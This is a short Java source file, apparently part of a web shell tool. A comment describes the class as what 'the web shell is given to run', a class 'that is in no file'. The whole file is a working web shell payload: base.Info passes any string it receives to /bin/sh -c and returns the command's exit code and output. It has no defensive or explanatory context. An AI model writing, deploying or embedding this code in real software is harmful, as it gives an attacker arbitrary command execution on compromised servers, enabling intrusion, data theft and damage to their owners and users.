// SPDX-License-Identifier: Apache-2.0
// What the web shell is given to run: base.Info, a class that is in no file. It runs one command.
package base;

public class Info implements java.util.function.Function<String, String> {
	public String apply(String command) {
		try {
			Process p = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", command});
			p.getOutputStream().close();
			String out = new String(p.getInputStream().readAllBytes());
			return p.waitFor() + "\n" + out;
		} catch (Exception e) {
			return e.toString();
		}
	}
}
